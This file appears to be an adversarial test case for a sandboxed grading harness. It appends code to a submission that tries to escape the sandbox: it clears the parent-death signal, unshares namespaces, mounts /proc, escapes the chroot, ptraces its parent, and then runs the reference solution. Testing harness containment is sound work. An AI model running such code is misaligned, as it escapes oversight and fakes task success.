"""Attack escapes_the_chroot: ctypes: unshare(CLONE_NEWUSER) for CAP_SYS_CHROOT then the
classic chroot(subdir) + chdir('..')* escape, setns/ptrace/process_vm_readv on its parent,
PR_SET_PDEATHSIG cleared, /proc mounted; execs the reference if the host filesystem comes
into view.
"""

ATTACK = {
    "base": "stubs",
    "requires": ("pidns", "user"),
    "statuses": ("ok", "timeout"),
}

# ---- appended to the submission below this line
import ctypes as _adv_ctypes
import os as _adv_osc

from adversarial.shared.guard import _adv_proc_is_mine  # inlined
from adversarial.shared.roots import _adv_find  # inlined

_adv_libc = _adv_ctypes.CDLL(None, use_errno=True)
_ADV_TRIED = {}


def _adv_try(name, fn):
    try:
        rc = fn()
        _ADV_TRIED[name] = (rc, _adv_ctypes.get_errno())
    except Exception as e:
        _ADV_TRIED[name] = repr(e)


_adv_try("pdeathsig", lambda: _adv_libc.prctl(1, 0, 0, 0, 0))  # outlive the launcher
_adv_try("userns", lambda: _adv_libc.unshare(0x10000000 | 0x00020000))  # NEWUSER | NEWNS
_adv_try("mount_proc", lambda: _adv_libc.mount(b"proc", b"/proc", b"proc", 0, None))


def _adv_chroot_escape():
    import tempfile
    inner = tempfile.mkdtemp()  # the worker's own /tmp
    try:
        if _adv_libc.chroot(inner.encode()) != 0:
            return False
        for _ in range(64):
            _adv_osc.chdir("..")
        return _adv_libc.chroot(b".") == 0
    finally:
        try:
            _adv_osc.rmdir(inner)
        except OSError:
            pass


_adv_try("chroot_escape", _adv_chroot_escape)
for _adv_pid in {_adv_osc.getppid(), 1}:  # ptrace and read the parent's memory
    if _adv_pid and _adv_pid != _adv_osc.getpid() and _adv_proc_is_mine(_adv_pid):
        _adv_try(f"ptrace_{_adv_pid}", lambda p=_adv_pid: _adv_libc.ptrace(16, p, None, None))
        _adv_try(f"ptrace_detach_{_adv_pid}",
                 lambda p=_adv_pid: _adv_libc.ptrace(17, p, None, None))
_adv_solution = _adv_find(["solutions/s13_cnn/padding/padding.py"])
if _adv_solution:
    exec(compile(open(_adv_solution).read(), _adv_solution, "exec"), globals())
